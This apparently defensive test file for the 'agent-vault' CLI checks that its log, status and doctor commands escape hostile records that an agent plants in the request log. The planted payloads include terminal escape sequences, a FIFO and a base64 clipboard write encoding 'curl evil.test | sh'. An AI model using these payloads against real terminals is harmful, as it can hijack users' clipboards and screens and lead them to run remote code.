// Attack: the request log as a way into the user's terminal. The log is a file of the user's, so
// an agent outside the sandbox (same user, a shell) can write anything into it, and the user reads
// it with `agent-vault log`, `log -f`, `status` and `doctor`. The agent plants records whose every
// field carries terminal control (OSC 52 clipboard writes, screen clears, a forged second line
// through an escaped newline, bidi overrides, C1 CSI), an over-long line, broken JSON, and a FIFO
// where the rotated log belongs. What must hold, through the compiled binary, broker and attacker
// both the unprivileged user:
//   - nothing the agent wrote reaches the terminal raw: every field is escaped, in text and JSON;
//   - each record stays one line (a forged "line" inside a field is not a line of ours);
//   - a FIFO or an oversized line hangs nothing and is skipped;
//   - the vault's credential value is in none of it.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { randomBytes } from "node:crypto";
import { join } from "node:path";
import { asAgent } from "../support/attacker.ts";
import { cleanEnv, type RunResult, type TempHome, tempHome } from "../support/binary.ts";
import { runCleanups, spawnLive, waitUntil } from "../support/process.ts";
import { startServer } from "../support/server.ts";

const cleanups: (() => Promise<void> | void)[] = [];
const CANARY = `sk-canary-${randomBytes(16).toString("hex")}`;
const outputs: string[] = [];
let H: TempHome;

/** Raw characters a terminal acts on, or that hide or reorder text; \n is our own line break. */
const UNSAFE_RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;

const TRICKS = {
  clipboard: "\u001b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u0007",
  clear: "\u001b[2J\u001b[H",
  forged: "\n03-01 10:00:09  200     1ms  s_0123456789ab  GET      api.github.com/ok",
  bidi: "\u202egnp.exe",
  c1: "\u009b31mred",
} as const;
const ALL = Object.values(TRICKS).join("");

// The agent's script: planted records, an oversized line, broken JSON, and a FIFO for requests.log.1.
const PLANT = String.raw`
import json, os, sys
home = sys.argv[1]
tricks = json.loads(sys.argv[2])
def rec(i, **over):
    r = {"time": "2026-03-01T10:00:0%dZ" % i, "session": "s_0123456789ab", "agent": None, "vault": "default",
         "method": "GET", "host": "api.github.com", "path": "/x", "service": "github", "status": 200,
         "latency_ms": 1, "error": None, "via": "tunnel"}
    r.update(over)
    return json.dumps(r) + "\n"
allt = "".join(tricks.values())
with open(os.path.join(home, "requests.log"), "a") as f:
    f.write(rec(1, path="/" + allt))
    f.write(rec(2, host="evil.test" + tricks["clear"], agent="rev" + tricks["bidi"], method="GET" + tricks["c1"]))
    f.write(rec(3, status=502, error="upstream_error" + tricks["clipboard"], reason="cannot resolve" + tricks["forged"], blocked="KEY" + tricks["clear"]))
    f.write("{" + "x" * (2 * 1024 * 1024) + "\n")
    f.write("not json " + allt + "\n")
    f.write(rec(4, path="/after-the-junk"))
fifo = os.path.join(home, "requests.log.1")
if os.path.exists(fifo): os.remove(fifo)
os.mkfifo(fifo)
`;

async function userRuns(args: string[]): Promise<RunResult> {
  const r = await H.run(args, { env: { TZ: "UTC" } });
  outputs.push(r.stdout, r.stderr);
  return r;
}

beforeAll(async () => {
  H = await tempHome({ asAgent: true });
  cleanups.push(() => H.cleanup());
  expect((await H.run(["vault", "credential", "set", "GITHUB_TOKEN=-"], { stdin: CANARY })).code).toBe(0);
  expect((await H.run(["vault", "service", "add", "--name", "github", "--host", "api.github.com", "--auth-type", "bearer", "--token-key", "GITHUB_TOKEN"])).code).toBe(0);
  await startServer(H, {}, cleanups);
  const planted = Bun.spawnSync(asAgent(["/usr/bin/python3", "-c", PLANT, H.dir, JSON.stringify(TRICKS)]), { env: cleanEnv(), stdout: "pipe", stderr: "pipe" });
  if (planted.exitCode !== 0) throw new Error(`the agent's script failed: ${planted.stderr.toString()}`);
}, 60_000);

afterAll(() => runCleanups(cleanups));

test("log prints every planted field escaped, one line a record, past the junk and the FIFO", async () => {
  const started = Date.now();
  const r = await userRuns(["log"]);
  expect(Date.now() - started).toBeLessThan(15_000);
  expect(r.code).toBe(0);
  expect(r.stdout).not.toMatch(UNSAFE_RAW);
  expect(r.stderr).toBe("");
  const lines = r.stdout.trimEnd().split("\n");
  // Four planted records, four lines: the forged one is text inside the third, not a line.
  expect(lines.map((l) => l.slice(0, 14))).toEqual(["03-01 10:00:01", "03-01 10:00:02", "03-01 10:00:03", "03-01 10:00:04"]);
  expect(lines[0]).toContain("api.github.com/\\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07\\x1b[2J\\x1b[H\\n03-01 10:00:09");
  expect(lines[1]).toContain("rev\\u202egnp.exe");
  expect(lines[1]).toContain("GET\\u009b31mred");
  expect(lines[2]).toContain("upstream_error\\x1b]52;");
  expect(lines[2]).toContain("(KEY\\x1b[2J\\x1b[H): cannot resolve\\n03-01 10:00:09");
});

test("log --json keeps the values but writes the characters as \\u escapes", async () => {
  const r = await userRuns(["log", "--json", "-n", "1", "--status", "200", "--host", "api.github.com"]);
  expect(r.stdout).not.toMatch(UNSAFE_RAW);
  expect(JSON.parse(r.stdout).path).toBe("/after-the-junk");
  const all = await userRuns(["log", "--json"]);
  expect(all.stdout).not.toMatch(UNSAFE_RAW);
  expect(JSON.parse(all.stdout.split("\n")[0]!).path).toBe(`/${ALL}`);
});

test("log -f prints what the agent appends, escaped", async () => {
  const live = spawnLive(H.argv(["log", "-f", "-n", "0"]), cleanEnv({ ...H.env, TZ: "UTC" }), "ignore");
  cleanups.push(() => void live.proc.kill());
  const append = String.raw`
import json, os, sys
with open(os.path.join(sys.argv[1], "requests.log"), "a") as f:
    f.write(json.dumps({"time": "2026-03-01T10:00:05Z", "session": None, "vault": "default", "method": "GET", "host": "late.test", "path": "/" + sys.argv[2], "service": None, "status": 403, "latency_ms": 1, "error": "host_not_allowed", "via": "tunnel"}) + "\n")
`;
  await waitUntil(
    "the follower to start",
    async () => {
      Bun.spawnSync(asAgent(["/usr/bin/python3", "-c", append, H.dir, ALL]));
      return live.stdout.includes("late.test/");
    },
    20_000,
  );
  live.proc.kill("SIGINT");
  await live.proc.exited;
  outputs.push(live.stdout, live.stderr);
  expect(live.stdout).not.toMatch(UNSAFE_RAW);
  expect(live.stdout).toContain("late.test/\\x1b]52;c;");
});

test("status and doctor print none of it, and the credential's value is nowhere", async () => {
  const status = await userRuns(["status"]);
  expect(status.code).toBe(0);
  const doctor = await userRuns(["doctor"]);
  for (const r of [status, doctor]) {
    expect(r.stdout).not.toMatch(UNSAFE_RAW);
    expect(r.stderr).not.toMatch(UNSAFE_RAW);
  }
  // The planted FIFO is named by doctor: not a regular file.
  expect(doctor.stdout).toContain("requests.log.1 is not a regular file");
  for (const out of outputs) expect(out).not.toContain(CANARY);
  expect(outputs.length).toBeGreaterThan(8);
});
